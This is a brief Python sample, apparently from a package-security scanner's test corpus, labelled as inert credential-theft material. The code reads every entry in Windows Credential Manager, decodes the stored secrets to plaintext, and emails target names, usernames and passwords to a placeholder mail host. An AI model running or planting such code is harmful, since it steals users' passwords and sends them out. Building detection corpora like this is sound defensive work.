# pkgguard corpus 219 (credentials), modelled on [taxonomy]; inert, never run.
import smtplib
from email.message import EmailMessage

import win32cred

lines = []
for cred in win32cred.CredEnumerate(None, 0) or []:
    blob = cred.get("CredentialBlob") or b""
    lines.append(f"{cred['TargetName']} {cred['UserName']} {blob.decode('utf-16-le', 'ignore')}")
msg = EmailMessage()
msg["Subject"] = "report"
msg.set_content("\n".join(lines))
with smtplib.SMTP("mail.example", 587) as s:
    s.send_message(msg, "a@mail.example", ["b@mail.example"])
